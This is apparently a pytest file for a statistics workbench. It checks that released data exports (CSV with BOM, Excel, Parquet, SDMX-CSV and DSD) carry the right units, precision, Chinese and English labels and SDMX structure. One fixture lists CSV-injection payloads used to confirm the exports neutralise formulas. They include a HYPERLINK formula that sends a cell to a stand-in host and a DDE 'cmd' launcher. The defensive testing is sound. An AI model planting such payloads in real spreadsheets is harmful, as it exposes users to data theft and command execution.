"""Exports of a released vintage: CSV with BOM, Excel with metadata, Parquet, SDMX-CSV and its DSD.

The SDMX checks follow the SDMX-CSV 1.0 format (SDMX 2.1 technical notes): the first column is
DATAFLOW holding AGENCY:ID(VERSION), then one column per dimension, TIME_PERIOD, OBS_VALUE and the
attributes; and the structure message declares exactly those components.
"""

from __future__ import annotations

import io
import json
import xml.etree.ElementTree as ET
from datetime import date, datetime, timezone

import numpy as np
import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest

from workbench.disclosure.export import FORMATS, NS, ReleaseContext, export, file_name
from workbench.disclosure.settings import SdmxSettings
from workbench.runs.release import Release

RELEASE = Release(release_id="abc", series="area_industry", vintage=3, run_id="r1", release_date=date(2026, 10, 20),
                  embargo_until=None, released_at=datetime(2026, 10, 20, 1, 30, tzinfo=timezone.utc),
                  released_by="super", inputs={"gold.enterprise_month": 4},
                  quality_report={"disclosure": {"primary": 1, "secondary": 1, "cells": 4,
                                                 "rules": {"protection": 0.1}}},
                  output="table", rows=4)
FRAME = pd.DataFrame({
    "vintage": [3] * 4, "release_date": [date(2026, 10, 20)] * 4, "period": ["2026-09"] * 4,
    "measure": ["vat_sales"] * 4, "county_code": ["660101", "660101", "660101", "_T"],
    "township_code": ["660101001", "660101002", "_T", "_T"], "industry_section": ["C", "C", "C", "C"],
    "contributors": [2, 9, 11, 11], "value": [np.nan, np.nan, 1500.5, 1500.5], "conf_status": ["C", "D", "F", "F"],
})
SDMX = SdmxSettings(agency="CN_GCITY_STATS", version="1.0")


def test_file_names_carry_series_and_vintage():
    assert [export(FRAME, RELEASE, f, SDMX).file_name for f in FORMATS] == [
        "area_industry_v3.csv", "area_industry_v3.xlsx", "area_industry_v3.parquet", "area_industry_v3.sdmx.csv",
        "area_industry_v3.dsd.xml"]
    assert file_name("x", 12, "csv") == "x_v12.csv"


def test_csv_has_a_bom_and_round_trips_chinese_text():
    data = export(FRAME, RELEASE, "csv", SDMX).data
    assert data.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype={"区县代码": str, "乡镇街道代码": str})
    assert back["指标"].eq("增值税销售额").all()
    # every column under its Chinese heading (issue 29: snake_case identifiers in a Chinese file)
    assert len(back.columns) > len(FRAME.columns) and not [c for c in back.columns if "_" in c], list(back.columns)
    # 1,500.5 yuan published in 万元 to one decimal: 0.15005 -> 0.2
    assert back["数值（万元）"].isna().sum() == 2 and back["数值（万元）"].iloc[2] == 0.2


def test_excel_has_data_and_metadata_sheets():
    book = openpyxl.load_workbook(io.BytesIO(export(FRAME, RELEASE, "xlsx", SDMX).data))
    assert book.sheetnames == ["data", "metadata"]
    meta = {r[0]: r[1] for r in book["metadata"].iter_rows(min_row=2, values_only=True)}
    assert meta["序列"] == "area_industry" and meta["版本"] == "3" and meta["发布日期"] == "2026-10-20"
    assert meta["主抑制单元格数"] == "1" and meta["保密状态 C"] == "保密（主抑制）"
    assert book["data"].max_row == len(FRAME) + 1


def test_parquet_keeps_types_and_metadata():
    table = pq.read_table(io.BytesIO(export(FRAME, RELEASE, "parquet", SDMX).data))
    assert table.schema.field("value").type.to_pandas_dtype() == np.float64
    assert json.loads(table.schema.metadata[b"workbench.release"])["vintage"] == 3
    assert table.to_pandas()["value"].isna().sum() == 2


def test_sdmx_csv_matches_its_data_structure_definition():
    rows = pd.read_csv(io.BytesIO(export(FRAME, RELEASE, "sdmx", SDMX).data), dtype=str, keep_default_na=False)
    assert list(rows.columns) == ["DATAFLOW", "MEASURE", "COUNTY_CODE", "TOWNSHIP_CODE", "INDUSTRY_SECTION",
                                  "TIME_PERIOD", "OBS_VALUE", "CONTRIBUTORS", "CONF_STATUS", "UNIT_MEASURE",
                                  "UNIT_MULT"]
    assert rows["DATAFLOW"].eq("CN_GCITY_STATS:DF_AREA_INDUSTRY(1.0)").all()
    # in 万元 (UNIT_MULT 4: SDMX's power of ten) to one decimal
    assert rows["OBS_VALUE"].tolist() == ["", "", "0.2", "0.2"]
    assert rows["UNIT_MEASURE"].eq("CNY").all() and rows["UNIT_MULT"].eq("4").all()
    root = ET.fromstring(export(FRAME, RELEASE, "dsd", SDMX).data)
    st = f"{{{NS['structure']}}}"
    dsd = root.find(f".//{st}DataStructure")
    assert dsd.get("id") == "DSD_AREA_INDUSTRY" and dsd.get("agencyID") == "CN_GCITY_STATS"
    dims = [d.get("id") for d in dsd.iter(f"{st}Dimension")]
    assert dims == ["MEASURE", "COUNTY_CODE", "TOWNSHIP_CODE", "INDUSTRY_SECTION"]
    assert [d.get("id") for d in dsd.iter(f"{st}TimeDimension")] == ["TIME_PERIOD"]
    assert [a.get("id") for a in dsd.iter(f"{st}Attribute")] == ["CONTRIBUTORS", "CONF_STATUS", "UNIT_MEASURE",
                                                                  "UNIT_MULT"]
    assert [m.get("id") for m in dsd.find(f".//{st}MeasureList")] == ["OBS_VALUE"]
    # every code used in the data is in the dimension's code list
    for dim in dims:
        codes = {c.get("id") for c in root.find(f".//{st}Codelist[@id='CL_{dim}']").iter(f"{st}Code")}
        assert set(rows[dim]) <= codes
    flow = root.find(f".//{st}Dataflow")
    assert flow.get("id") == "DF_AREA_INDUSTRY" and flow.find(f"{st}Structure/Ref").get("id") == "DSD_AREA_INDUSTRY"


# ---- what a reader needs to take the numbers away (issue 21) ------------------------------

XML_LANG = "{http://www.w3.org/XML/1998/namespace}lang"
ESTIMATES = pd.DataFrame({  # a survey estimate release: its period and variable are in the run's params
    "vintage": [1, 1], "release_date": [date(2026, 9, 25)] * 2, "domain": ["total", "C"],
    "estimate": [123456789.123456789, 98765432.1], "se": [1234567.891, 2345678.9], "cv": [0.0100000007, 0.02374999],
    "n": [120, 40], "conf_status": ["F", "F"]})
ESTIMATE_RELEASE = Release(release_id="e1", series="survey_revenue", vintage=1, run_id="r2",
                           release_date=date(2026, 9, 25), embargo_until=None,
                           released_at=datetime(2026, 9, 25, 2, 0, tzinfo=timezone.utc), released_by="super",
                           inputs={}, quality_report={}, output="estimates", rows=2)
CONTEXT = ReleaseContext.from_params({"period": "2026-08", "variable": "revenue"})


def test_every_format_carries_the_reference_period_and_unit():
    """The run's period (2026-08) and unit reach CSV, Excel, Parquet and SDMX although the
    estimates table has neither column (seen: "2026-08 appears nowhere in them")."""
    csv = pd.read_csv(io.BytesIO(export(ESTIMATES, ESTIMATE_RELEASE, "csv", SDMX, CONTEXT).data),
                      encoding="utf-8-sig", dtype=str)
    assert csv["月份"].eq("2026-08").all() and csv["单位"].eq("万元").all()
    book = openpyxl.load_workbook(io.BytesIO(export(ESTIMATES, ESTIMATE_RELEASE, "xlsx", SDMX, CONTEXT).data))
    meta = {r[0]: r[1] for r in book["metadata"].iter_rows(min_row=2, values_only=True)}
    assert meta["参考期"] == "2026年8月" and meta["计量单位"] == "万元" and meta["指标"] == "营业收入"
    header = [c.value for c in book["data"][1]]
    assert "月份" in header and "单位" in header
    table = pq.read_table(io.BytesIO(export(ESTIMATES, ESTIMATE_RELEASE, "parquet", SDMX, CONTEXT).data))
    assert table.column("period").to_pylist() == ["2026-08", "2026-08"]
    assert json.loads(table.schema.metadata[b"workbench.release"])["reference_period"] == "2026年8月"
    sdmx = pd.read_csv(io.BytesIO(export(ESTIMATES, ESTIMATE_RELEASE, "sdmx", SDMX, CONTEXT).data), dtype=str)
    assert sdmx["TIME_PERIOD"].eq("2026-08").all() and sdmx["UNIT_MULT"].eq("4").all()
    english = export(ESTIMATES, ESTIMATE_RELEASE, "xlsx", SDMX, CONTEXT, lang="en").data
    meta_en = {r[0]: r[1] for r in openpyxl.load_workbook(io.BytesIO(english))["metadata"].iter_rows(
        min_row=2, values_only=True)}
    assert meta_en["Reference period"] == "Aug 2026" and meta_en["Unit"] == "10k yuan"


def test_values_are_published_at_their_precision_not_seventeen_digits():
    """Money in 万元 to one decimal, CVs to 0.1 % (3 decimals of the fraction): the CSV
    text holds no float noise (seen: 17 significant digits)."""
    text = export(ESTIMATES, ESTIMATE_RELEASE, "csv", SDMX, CONTEXT).data.decode("utf-8-sig")
    back = pd.read_csv(io.StringIO(text))
    assert back["估计值（万元）"].tolist() == [12345.7, 9876.5]  # 123,456,789.12 yuan = 12,345.7 万元
    assert back["标准误（万元）"].tolist() == [123.5, 234.6]
    assert back["变异系数（%）"].tolist() == [1.0, 2.4]  # in per cent, as the pages show it
    assert "0000007" not in text and "4999" not in text and "123456789" not in text


def test_every_code_has_its_name():
    """GB/T 4754 sections and G City's areas carry names in the data files and the DSD."""
    csv = pd.read_csv(io.BytesIO(export(FRAME, RELEASE, "csv", SDMX).data), encoding="utf-8-sig", dtype=str)
    assert csv["行业门类"].eq("制造业").all() and csv["行业门类代码"].eq("C").all()
    assert csv["乡镇街道"].fillna("").tolist()[:3] == ["", "", "合计"]  # 660101 is no G City county
    named = FRAME.assign(county_code="660102", township_code=["660102001", "660102002", "_T", "_T"])
    csv = pd.read_csv(io.BytesIO(export(named, RELEASE, "csv", SDMX).data), encoding="utf-8-sig", dtype=str)
    assert csv["区县"].iloc[0] == "中山区"
    assert csv["乡镇街道"].tolist() == ["东风街道", "人民街道", "合计", "合计"]
    english = pd.read_csv(io.BytesIO(export(named, RELEASE, "csv", SDMX, lang="en").data), encoding="utf-8-sig",
                          dtype=str)
    assert english["Industry section"].eq("Manufacturing").all()
    # G City's areas in English by their romanised names, as an English yearbook prints them
    assert english["District or county"].iloc[0] == "Zhongshan District"
    assert english["Township"].tolist() == ["Dongfeng Subdistrict", "Renmin Subdistrict", "Total", "Total"]
    root = ET.fromstring(export(named, RELEASE, "dsd", SDMX).data)
    st, com = f"{{{NS['structure']}}}", f"{{{NS['common']}}}"
    code = root.find(f".//{st}Codelist[@id='CL_INDUSTRY_SECTION']/{st}Code[@id='C']")
    assert {n.get(XML_LANG): n.text for n in code.findall(f"{com}Name")} == {"zh": "制造业", "en": "Manufacturing"}
    town = root.find(f".//{st}Codelist[@id='CL_TOWNSHIP_CODE']/{st}Code[@id='660102001']")
    assert {n.get(XML_LANG): n.text for n in town.findall(f"{com}Name")} == {"zh": "东风街道", "en": "Dongfeng Subdistrict"}


# Cells a spreadsheet would evaluate (OWASP: CSV injection), as a delivered code could carry them.
HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"详情")', "+1+cmd|' /C calc'!A0", "@SUM(1,2)",
           "-2+3", "\t=1+1", "\r=1+1"]


def hostile_frame() -> pd.DataFrame:
    n = len(HOSTILE)
    return pd.DataFrame({
        "vintage": [3] * n, "release_date": [date(2026, 10, 20)] * n, "period": ["2026-09"] * n,
        "measure": ["vat_sales"] * n, "county_code": ["660101"] * n, "township_code": HOSTILE,
        "industry_section": ["C"] * n, "contributors": [9] * n, "value": [-1500.5, *[1500.5] * (n - 1)],
        "conf_status": ["F"] * n,
    })


def formula_cells(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [f"{sheet.title}!{cell.coordinate}" for sheet in book for row in sheet.iter_rows() for cell in row
            if cell.data_type == "f"]


def test_no_released_excel_file_holds_a_formula_and_its_text_is_kept():
    data = export(hostile_frame(), RELEASE, "xlsx", SDMX).data
    assert formula_cells(data) == []
    sheet = openpyxl.load_workbook(io.BytesIO(data))["data"]
    header = [c.value for c in sheet[1]]
    column = header.index("乡镇街道代码")
    shown = [row[column] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert all(any(h.strip() in str(v) for v in shown) for h in HOSTILE), shown


def starts_a_formula(field: str) -> bool:
    import re

    return field.startswith(("=", "+", "-", "@", "\t", "\r")) and not re.fullmatch(r"[+-]?\d+(\.\d*)?", field)


def test_no_released_csv_field_starts_a_formula_and_numbers_stay_numbers():
    import csv

    for fmt, encoding in (("csv", "utf-8-sig"), ("sdmx", "utf-8")):
        text = export(hostile_frame(), RELEASE, fmt, SDMX).data.decode(encoding)
        rows = list(csv.reader(io.StringIO(text, newline="")))
        live = [f for row in rows for f in row if starts_a_formula(f)]
        assert live == [], (fmt, live)
        fields = {f for row in rows for f in row}
        assert {"'" + h for h in HOSTILE} <= fields, (fmt, sorted(fields))
    csv_rows = list(csv.reader(io.StringIO(export(hostile_frame(), RELEASE, "csv", SDMX).data.decode("utf-8-sig"))))
    assert any(f.startswith("-0.") for row in csv_rows for f in row), "a negative number was quoted as text"


def test_the_apps_table_downloads_hold_no_formula():
    import csv

    from workbench.formatting import table_file

    frame = pd.DataFrame({"township_code": HOSTILE, "value": [-1.5] * len(HOSTILE)})
    assert formula_cells(table_file(frame, "zh", "xlsx", title="=cmd")) == []
    text = table_file(frame, "en", "csv").decode("utf-8-sig")
    fields = [f for row in csv.reader(io.StringIO(text, newline="")) for f in row]
    assert not [f for f in fields if starts_a_formula(f)], fields
    assert "-1.5" in fields


# A township survey release as the Estimates page makes it (employment: persons, cannot be negative).
EMPLOYMENT = pd.DataFrame({
    "vintage": [1, 1], "release_date": [date(2026, 9, 25)] * 2, "domain": ["660102", "660103"],
    "estimate": [1133.4, 24206.2], "se": [682.3, 3258.9], "cv": [0.60201, 0.1346], "ci_low": [-204.6, 17552.1],
    "ci_high": [2471.2, 30860.3], "deff": [0.0481234, 0.0252], "unreliable": [True, False], "n": [3, 31],
    "direct_var": [465660.08898764447, 100312.25107000001], "variance_method": ["taylor", "taylor"],
    "conf_status": ["F", "F"]})
EMPLOYMENT_CONTEXT = ReleaseContext.from_params({"period": "2026-08", "variable": "employment", "alpha": 0.1})


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_a_released_file_reads_as_published_in_the_readers_language(lang):
    """Issue 29: Chinese downloads had snake_case headers, raw codes (taylor, False), CV as a
    fraction, variances with 17 digits, a negative lower bound for a headcount and neither the
    variable nor the confidence level."""
    words = {"zh": {"yes": "是", "no": "否", "taylor": "泰勒线性化", "variable": "从业人员", "low": "置信区间下限（人）",
                    "cv": "变异系数（%）", "level": "置信水平（%）", "var": "直接估计方差（人²）", "deff": "设计效应",
                    "unreliable": "不可靠", "method": "方差估计方法", "measure": "指标", "estimate": "估计值（人）"},
            "en": {"yes": "yes", "no": "no", "taylor": "Taylor linearisation", "variable": "Employment",
                   "low": "CI lower (persons)", "cv": "CV (%)", "level": "Confidence level (%)",
                   "var": "Direct variance (persons²)", "deff": "Design effect", "unreliable": "Unreliable",
                   "method": "Variance method", "measure": "Measure", "estimate": "Estimate (persons)"}}[lang]
    text = export(EMPLOYMENT, ESTIMATE_RELEASE, "csv", SDMX, EMPLOYMENT_CONTEXT, lang=lang).data.decode("utf-8-sig")
    back = pd.read_csv(io.StringIO(text), dtype=str)
    assert not [c for c in back.columns if "_" in c], list(back.columns)
    assert back[words["measure"]].eq(words["variable"]).all()
    assert back[words["estimate"]].tolist() == ["1133", "24206"]  # persons, whole numbers
    assert back[words["low"]].tolist() == ["0", "17552"]  # a headcount interval is cut at zero
    assert back[words["cv"]].tolist() == ["60.2", "13.5"]
    assert back[words["level"]].eq("90").all()
    assert back[words["deff"]].tolist() == ["0.048", "0.025"]
    assert back[words["var"]].tolist() == ["465660", "100312"]
    assert back[words["unreliable"]].tolist() == [words["yes"], words["no"]]
    assert back[words["method"]].eq(words["taylor"]).all()
    assert "False" not in text and "True" not in text and "4478" not in text
    book = openpyxl.load_workbook(io.BytesIO(export(EMPLOYMENT, ESTIMATE_RELEASE, "xlsx", SDMX, EMPLOYMENT_CONTEXT,
                                                    lang=lang).data))
    meta = {r[0]: r[1] for r in book["metadata"].iter_rows(min_row=2, values_only=True)}
    assert meta[{"zh": "置信水平", "en": "Confidence level"}[lang]] == "90%"
    assert meta[{"zh": "指标", "en": "Variable"}[lang]] == words["variable"]
    assert "Parquet" in meta[{"zh": "说明", "en": "Notes"}[lang]]


SEASONAL = pd.DataFrame({  # a seasonal adjustment of retail sales (亿元) as its release holds it
    "vintage": [1, 1], "release_date": [date(2026, 9, 25)] * 2, "month": [date(2026, 7, 1), date(2026, 8, 1)],
    "original": [63.841812, 63.575933], "trend": [65.709995, 65.658424], "seasadj": [65.842146, 65.497643],
    "seasonal": [0.9701234, 0.9706543], "filled": [np.nan, np.nan], "si": [0.97534, 0.96991]})
SEASONAL_RELEASE = Release(release_id="s1", series="sa_retail_sales", vintage=1, run_id="r3",
                           release_date=date(2026, 9, 25), embargo_until=None,
                           released_at=datetime(2026, 9, 25, 2, 0, tzinfo=timezone.utc), released_by="super",
                           inputs={}, quality_report={}, output="series", rows=2)


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_a_seasonally_adjusted_series_is_released_in_its_unit_and_names(lang):
    """Issue 29: a seasonal release file had English column names, four-decimal values, a
    "filled" column of None and no unit: the series' unit comes from gold.targets (亿元)."""
    context = ReleaseContext.from_params({"series": "retail_sales", "spec": {}}, unit="100m_yuan")
    text = export(SEASONAL, SEASONAL_RELEASE, "csv", SDMX, context, lang=lang).data.decode("utf-8-sig")
    back = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    unit, adjusted, name = {"zh": ("亿元", "季节调整后（亿元）", "社会消费品零售总额"),
                            "en": ("100m yuan", "Seasonally adjusted (100m yuan)", "Retail sales")}[lang]
    assert back[adjusted].astype(float).tolist() == [65.84, 65.5]  # 亿元 to two decimals
    assert back[{"zh": "指标", "en": "Measure"}[lang]].eq(name).all()
    assert back[{"zh": "单位", "en": "Unit"}[lang]].eq(unit).all()
    assert not [c for c in back.columns if "_" in c] and "None" not in text and "nan" not in text.lower()
    sdmx = pd.read_csv(io.BytesIO(export(SEASONAL, SEASONAL_RELEASE, "sdmx", SDMX, context).data), dtype=str)
    assert sdmx["UNIT_MEASURE"].eq("CNY").all() and sdmx["UNIT_MULT"].eq("8").all()
